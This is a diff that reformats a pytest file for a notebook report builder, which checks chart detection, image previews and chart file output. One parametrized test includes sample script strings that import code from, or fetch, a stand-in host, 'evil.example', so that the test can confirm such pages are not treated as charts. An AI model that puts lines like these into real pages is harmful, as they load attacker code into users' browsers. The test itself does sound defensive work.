@@ -26,17 +26,27 @@ WEBP = b"RIFF\x1a\x00\x00\x00WEBPVP8L\r\x00\x00\x00/\x00\x00\x00\x10\x07\x10\x11
 PDF = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"
 FIGURE = {"data": [{"type": "bar", "y": [2, 3, 1]}], "layout": {"title": {"text": "bar plot"}}}
 # Plotly's per-chart HTML in connected mode: it needs the loader's require.js paths (a CDN)
-PLOTLY_HTML = ('<div id="p"></div><script type="text/javascript">require(["plotly"], function(Plotly) {'
-               f'Plotly.newPlot("p", {json.dumps(FIGURE["data"])}, {json.dumps(FIGURE["layout"])}, {{"responsive": true}})'
-               '});</script>')  # fmt: skip
-PLOTLY_LOADER = ("<script type=\"text/javascript\">window.PlotlyConfig = {MathJaxConfig: 'local'};"
-                 "requirejs.config({paths: {'plotly': ['https://cdn.plot.ly/plotly-latest.min']}});</script>")
-VEGA_LITE = {"$schema": "https://vega.github.io/schema/vega-lite/v5.json", "mark": "point",
-             "data": {"values": [{"x": 1, "y": 3}]}, "title": "points"}  # fmt: skip
-ALTAIR_HTML = ('<style>#altair-viz-1.vega-embed {width: 100%;}</style><div id="altair-viz-1"></div>'
-               '<script type="text/javascript">(function(spec, embedOpt){ const paths = {"vega": '
-               '"https://cdn.jsdelivr.net/npm/vega@5?noext"}; /* loads vega-embed */ })('
-               f'{json.dumps(VEGA_LITE)}, {{"mode": "vega-lite"}});</script>')  # fmt: skip
+PLOTLY_HTML = (
+    '<div id="p"></div><script type="text/javascript">require(["plotly"], function(Plotly) {'
+    f'Plotly.newPlot("p", {json.dumps(FIGURE["data"])}, {json.dumps(FIGURE["layout"])}, {{"responsive": true}})'
+    "});</script>"
+)
+PLOTLY_LOADER = (
+    "<script type=\"text/javascript\">window.PlotlyConfig = {MathJaxConfig: 'local'};"
+    "requirejs.config({paths: {'plotly': ['https://cdn.plot.ly/plotly-latest.min']}});</script>"
+)
+VEGA_LITE = {
+    "$schema": "https://vega.github.io/schema/vega-lite/v5.json",
+    "mark": "point",
+    "data": {"values": [{"x": 1, "y": 3}]},
+    "title": "points",
+}
+ALTAIR_HTML = (
+    '<style>#altair-viz-1.vega-embed {width: 100%;}</style><div id="altair-viz-1"></div>'
+    '<script type="text/javascript">(function(spec, embedOpt){ const paths = {"vega": '
+    '"https://cdn.jsdelivr.net/npm/vega@5?noext"}; /* loads vega-embed */ })('
+    f'{json.dumps(VEGA_LITE)}, {{"mode": "vega-lite"}});</script>'
+)
 CDN_PAGE = '<div id="b"></div><script src="https://cdn.bokeh.org/bokeh-3.js"></script><script>Bokeh.embed()</script>'
 INLINE_PAGE = '<div id="w"></div><script>document.getElementById("w").textContent = "drawn here"</script>'
 TABLE_HTML = "<table><tr><th>a</th></tr><tr><td>1</td></tr></table>"
@@ -72,8 +82,14 @@ def test_each_output_kind_is_a_chart_with_its_preview_or_entry(tmp_path: Path) -
         cell("png plus svg", {"image/png": encoded(PNG), "image/svg+xml": "<svg xmlns='http://www.w3.org/2000/svg'/>"}),
     )
     assert names == [
-        "gif-chart.gif", "pdf-only.pdf", "plotly-chart.plotly.json", "png-plus-svg.png", "png-plus-svg.svg",
-        "vega-chart.vega.json", "vega-lite-chart.vegalite.json", "webp-chart.webp",
+        "gif-chart.gif",
+        "pdf-only.pdf",
+        "plotly-chart.plotly.json",
+        "png-plus-svg.png",
+        "png-plus-svg.svg",
+        "vega-chart.vega.json",
+        "vega-lite-chart.vegalite.json",
+        "webp-chart.webp",
     ]  # the DataFrame's HTML runs no script: not a chart; Plotly's page needs a CDN: its JSON is the chart
     assert (files / "gif-chart.gif").read_bytes() == GIF and (files / "pdf-only.pdf").read_bytes() == PDF
     assert json.loads((files / "plotly-chart.plotly.json").read_text()) == FIGURE
@@ -81,7 +97,9 @@ def test_each_output_kind_is_a_chart_with_its_preview_or_entry(tmp_path: Path) -
     assert "[View chart file](files/pdf-only.pdf)" in report.markdown
     assert "[Interactive chart: open the file](files/plotly-chart.plotly.json)" in report.markdown
     assert "[Interactive chart: open the file](files/vega-lite-chart.vegalite.json)" in report.markdown
-    assert report.html.count('src="data:image/gif;base64,') == 1 and report.html.count('src="data:image/webp;base64,') == 1
+    assert (
+        report.html.count('src="data:image/gif;base64,') == 1 and report.html.count('src="data:image/webp;base64,') == 1
+    )
     assert report.html.count('src="data:image/png;base64,') == 1  # png outranks svg: one preview per chart
     assert "<script" not in report.html and "https://" not in report.markdown
     chinese = build_report(data, ReportOptions(lang="zh"), link_base=tmp_path).markdown
@@ -92,7 +110,10 @@ def test_loader_styling_empty_and_cdn_outputs_are_not_charts(tmp_path: Path) -> 
     names, _, data = report_of(
         tmp_path,
         cell("plotly loader", {"text/html": PLOTLY_LOADER, "text/plain": ""}),
-        cell("styling", {"text/html": "<style>table td { color: red }</style>", "text/plain": "<IPython.core.display.HTML>"}),
+        cell(
+            "styling",
+            {"text/html": "<style>table td { color: red }</style>", "text/plain": "<IPython.core.display.HTML>"},
+        ),
         cell("empty", {"text/html": "", "text/plain": ""}),
         cell("markdown only", {"text/markdown": "**bold** words", "text/plain": "bold words"}),
         cell("bokeh from a cdn", {"text/html": CDN_PAGE}),
@@ -112,19 +133,30 @@ def test_altair_and_plotly_html_keep_their_json_as_the_chart(tmp_path: Path) -> 
     assert json.loads((files / "plotly-html-only.plotly.json").read_text()) == FIGURE
 
 
-@pytest.mark.parametrize(("page", "chart"), [
-    (PLOTLY_LOADER, False), (CDN_PAGE, False), (PLOTLY_HTML, False), (ALTAIR_HTML, False), (INLINE_PAGE, True),
-    ("<script>import('https://evil.example/x.js')</script>", False), ('<script>fetch("//evil.example")</script>', False),
-    ("<style>p {}</style>", False), ("", False), (TABLE_HTML, False),
-])  # fmt: skip
+@pytest.mark.parametrize(
+    ("page", "chart"),
+    [
+        (PLOTLY_LOADER, False),
+        (CDN_PAGE, False),
+        (PLOTLY_HTML, False),
+        (ALTAIR_HTML, False),
+        (INLINE_PAGE, True),
+        ("<script>import('https://evil.example/x.js')</script>", False),
+        ('<script>fetch("//evil.example")</script>', False),
+        ("<style>p {}</style>", False),
+        ("", False),
+        (TABLE_HTML, False),
+    ],
+)
 def test_a_page_is_a_chart_only_when_it_runs_its_own_scripts(page: str, chart: bool) -> None:
     assert is_html_chart(page) is chart
     assert html_chart_spec(PLOTLY_LOADER) is None
 
 
 def test_chart_files_are_readable_like_the_report_files(tmp_path: Path) -> None:
-    _, files, data = report_of(tmp_path, cell("png", {"image/png": encoded(PNG)}),
-                               cell("plotly", {"application/vnd.plotly.v1+json": FIGURE}))  # fmt: skip
+    _, files, data = report_of(
+        tmp_path, cell("png", {"image/png": encoded(PNG)}), cell("plotly", {"application/vnd.plotly.v1+json": FIGURE})
+    )
     from nini.report.output import write_report
 
     written = write_report(build_report(data, ReportOptions(), link_base=tmp_path), tmp_path, formats=["md"])
